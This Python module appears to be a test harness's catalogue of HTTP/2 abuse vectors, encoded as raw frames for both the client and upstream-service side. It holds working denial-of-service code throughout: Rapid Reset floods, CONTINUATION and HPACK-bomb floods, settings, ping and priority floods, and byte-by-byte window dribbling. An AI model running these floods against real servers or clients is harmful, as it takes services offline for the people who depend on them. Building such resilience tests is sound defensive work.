"""What an end of HTTP/2 can do to the other: each class of vectors/http2-abuse, as bytes. A client does it from its first stream on,
a service to the first request that it is sent."""

import h2_frames as h2
from client import Closed

STUCK = 3               # seconds in which nothing was taken from us: we are not being read
UNKNOWN = 0xfa
FIRST = 3


def flood(peer, make, n, batch=500):
    """make(i) for i below n, until it is over, or the other side stops reading. How many went."""
    for begin in range(0, n, batch):
        peer.send(b"".join(make(i) for i in range(begin, min(begin + batch, n))))
        if not drained(peer) or peer.over:
            return begin + batch
    return n


def drained(peer, most=1 << 18):
    left = peer.unsent()
    while left > most and not peer.over:
        try:
            peer.wait(lambda p: p.unsent() < left or p.over, "being read", STUCK)
        except AssertionError:
            return False
        left = peer.unsent()
    return True


def paced(peer, make, n, batch=50):
    """The same by a client that keeps within what it may have open at once."""
    for begin in range(0, n, batch):
        peer.send(b"".join(make(i) for i in range(begin, begin + batch)))
        try:
            peer.ping()
        except Closed:
            return


def number(i):
    """Of a client's ith stream; the first was an honest one."""
    return 2 * i + FIRST


def head(i, host, path="/plain/x", fields=(), end=True, end_headers=True, method="GET"):
    return h2.headers(number(i), h2.literal(h2.request_fields(method, path, host, "https", fields)), end, end_headers)


class Either:
    """What both can do alike, on a stream `id` once it has begun and does not end."""

    def empty_data(self):
        self.begin()
        flood(self.peer, lambda i: h2.frame(h2.DATA, 0, self.id), 5 * self.n)

    def padded_data(self):
        """Nothing but padding: it is paid for, and nothing comes of it."""
        self.begin()
        flood(self.peer, lambda i: h2.frame(h2.DATA, h2.PADDED, self.id, b"\x01\x00"), self.n)

    def ping(self):
        self.peer.reads = False
        flood(self.peer, lambda i: h2.ping(), 5 * self.n)

    def settings(self):
        self.peer.reads = False
        flood(self.peer, lambda i: h2.settings({h2.MAX_CONCURRENT_STREAMS: i}), 5 * self.n)

    def settings_of_many_entries(self):
        flood(self.peer, lambda i: h2.frame(h2.SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff" * 2000), self.n // 100)

    def table_flip(self):
        flood(self.peer, lambda i: h2.settings({h2.HEADER_TABLE_SIZE: 0 if i % 2 else 65536}), self.n)

    def priority(self):
        flood(self.peer, lambda i: h2.priority(2 * (i % 4000) + 1, 2 * ((i * 7) % 4000 + 4001) + 1), 5 * self.n)

    def window_update(self):
        self.begin()
        flood(self.peer, lambda i: h2.window_update(1) + h2.window_update(1, self.id), 5 * self.n // 2)

    def unknown_frames_of_a_stream(self):
        self.begin()
        flood(self.peer, lambda i: h2.frame(UNKNOWN, 0, self.id, b"z" * 10), 5 * self.n)


class Client(Either):
    """The abuse by a client, of streams that it opens at `host`."""

    def __init__(self, peer, host, n):
        self.peer, self.host, self.id, self.n = peer, host, FIRST, n

    def begin(self):
        self.peer.send(head(0, self.host, end=False, method="POST"))

    def rapid_reset(self):
        flood(self.peer, lambda i: head(i, self.host) + h2.reset(number(i)), self.n)

    def rapid_reset_between(self):
        """One in nine is let be answered."""
        paced(self.peer, lambda i: head(i, self.host) + (h2.reset(number(i)) if i % 9 else b""), self.n)

    def reset_by_window_0(self):
        flood(self.peer, lambda i: head(i, self.host) + h2.frame(h2.WINDOW_UPDATE, 0, number(i), bytes(4)), self.n)

    def reset_by_window_overflow(self):
        paced(self.peer, lambda i: head(i, self.host) + h2.window_update(0x7fffffff, number(i)), self.n)

    def reset_by_data_after_end(self):
        flood(self.peer, lambda i: head(i, self.host) + h2.frame(h2.DATA, 0, number(i), b"x"), self.n)

    def reset_by_priority_of_wrong_length(self):
        flood(self.peer, lambda i: head(i, self.host) + h2.frame(h2.PRIORITY, 0, number(i), bytes(4)), self.n)

    def reset_by_priority_on_itself(self):
        paced(self.peer, lambda i: head(i, self.host) + h2.priority(number(i), number(i)), self.n)

    def reset_by_content_length(self):
        paced(self.peer, lambda i: head(i, self.host, fields=[("content-length", "1")], end=False, method="POST") +
              h2.frame(h2.DATA, h2.END_STREAM, number(i), b"xx"), self.n)

    def reset_by_head(self):
        paced(self.peer, lambda i: h2.headers(number(i), h2.literal([(":method", "GET"), ("UPPER", "x")]), True), self.n)

    def continuation(self):
        self.peer.send(head(0, self.host, end_headers=False))
        flood(self.peer, lambda i: h2.frame(h2.CONTINUATION, 0, FIRST, h2.literal([(f"x-{i}", "y" * 100)])), self.n)

    def empty_continuation(self):
        self.peer.send(head(0, self.host, end_headers=False))
        flood(self.peer, lambda i: h2.frame(h2.CONTINUATION, 0, FIRST), self.n)

    def empty_headers(self):
        flood(self.peer, lambda i: h2.frame(h2.HEADERS, h2.END_HEADERS, number(i)), self.n)

    def dribble(self):
        """Fifty large answers, byte by byte."""
        self.peer.credits = False
        self.peer.send(h2.settings({h2.INITIAL_WINDOW_SIZE: 1}))
        streams = [self.peer.open(h2.request_fields("GET", "/plain/large?bytes=1000000", self.host)) for _ in range(50)]
        for stream in streams:
            stream.wait(lambda s: s.body_bytes > 0, "a byte")
        flood(self.peer, lambda i: h2.window_update(1, streams[i % 50].id), self.n // 10)

    def hpack_bomb(self):
        """Each byte of the second block is a field of 4,000."""
        self.peer.send(h2.headers(FIRST, b"\x40\x01x" + h2.number(4000, 7) + b"v" * 4000 + h2.literal(
            h2.request_fields("GET", "/plain/x", self.host)), True))
        flood(self.peer, lambda i: h2.headers(number(i + 1), h2.literal(h2.request_fields("GET", "/plain/x", self.host)) +
                                              b"\xbe" * 16000, True), self.n // 200)

    def cookie_crumbs(self):
        flood(self.peer, lambda i: head(i, self.host, fields=[("cookie", "")] * 1500), self.n // 100)

    def table_flip_within_blocks(self):
        """RFC 7541 section 6.3: the size of the table, again and again at the beginning of one block."""
        paced(self.peer, lambda i: h2.headers(number(i), b"\x20\x3f\xe1\x1f" * 3000 + h2.literal(
            h2.request_fields("GET", "/plain/x", self.host)), True), self.n // 100)

    def many_streams(self):
        flood(self.peer, lambda i: head(i, self.host, end=False, method="POST"), self.n // 2)

    def slow_headers(self):
        self.peer.send(head(0, self.host, end_headers=False))

    def slow_preface(self):
        """On a connection that said nothing else."""
        self.peer.send(h2.PREFACE[:10])

    def preface_only(self):
        self.peer.send(h2.PREFACE)

    def unknown_frames(self):
        flood(self.peer, lambda i: h2.frame(UNKNOWN, 0, 0, b"z" * 10), 5 * self.n)


class Upstream(Either):
    """The abuse by a service, of the connection that `stream` came on."""

    def __init__(self, stream, n):
        self.stream, self.peer, self.id, self.n = stream, stream.peer, stream.id, n

    def begin(self):
        """An answer that has begun, and does not end."""
        self.peer.send(h2.headers(self.id, h2.literal([(":status", "200")])))

    def rapid_reset(self):
        """What is promised is taken back."""
        flood(self.peer, lambda i: h2.reset(self.id), self.n)

    def promised(self):
        fields = h2.literal(h2.request_fields("GET", "/", "two.test"))
        flood(self.peer, lambda i: h2.frame(h2.PUSH_PROMISE, h2.END_HEADERS, self.id, (2 * i + 2).to_bytes(4, "big") + fields), self.n)

    def reset_by_window_0(self):
        self.begin()
        flood(self.peer, lambda i: h2.frame(h2.WINDOW_UPDATE, 0, self.id, bytes(4)), self.n)

    def reset_by_window_overflow(self):
        self.begin()
        flood(self.peer, lambda i: h2.window_update(0x7fffffff, self.id), self.n)

    def reset_by_data_after_end(self):
        self.peer.send(h2.headers(self.id, h2.literal([(":status", "200")]), True))
        flood(self.peer, lambda i: h2.frame(h2.DATA, 0, self.id, b"x"), self.n)

    def reset_by_data_before_head(self):
        flood(self.peer, lambda i: h2.frame(h2.DATA, 0, self.id, b"x"), self.n)

    def reset_by_head(self):
        flood(self.peer, lambda i: h2.headers(self.id, h2.literal([(":status", "abc"), ("UPPER", "x")])), self.n)

    def interim_without_end(self):
        """1xx after 1xx."""
        flood(self.peer, lambda i: h2.headers(self.id, h2.literal([(":status", "103"), ("link", "</x>")])), self.n)

    def continuation(self):
        self.peer.send(h2.headers(self.id, h2.literal([(":status", "200")]), False, False))
        flood(self.peer, lambda i: h2.frame(h2.CONTINUATION, 0, self.id, h2.literal([(f"x-{i}", "y" * 100)])), self.n)

    def empty_continuation(self):
        self.peer.send(h2.headers(self.id, h2.literal([(":status", "200")]), False, False))
        flood(self.peer, lambda i: h2.frame(h2.CONTINUATION, 0, self.id), self.n)

    def dribble(self):
        """Our body, byte by byte; the settings came before the request."""
        flood(self.peer, lambda i: h2.window_update(1, self.id), self.n // 10)

    def hpack_bomb(self):
        self.peer.send(h2.headers(self.id, h2.literal([(":status", "103")]) + b"\x40\x01x" + h2.number(4000, 7) + b"v" * 4000))
        self.peer.send(h2.headers(self.id, h2.literal([(":status", "200")]) + b"\xbe" * 16000, True))

    def cookie_crumbs(self):
        self.peer.send(h2.headers(self.id, h2.literal([(":status", "200")] + [("set-cookie", "")] * 1200), True))

    def many_streams(self):
        """Heads of streams that nobody opened."""
        flood(self.peer, lambda i: h2.headers(2 * i + 101, h2.literal([(":status", "200")])), self.n // 2)

    def slow_headers(self):
        self.peer.send(h2.headers(self.id, h2.literal([(":status", "200")]), False, False))

    def unknown_frames(self):
        self.begin()
        flood(self.peer, lambda i: h2.frame(UNKNOWN, 0, 0, b"z" * 10), 5 * self.n)
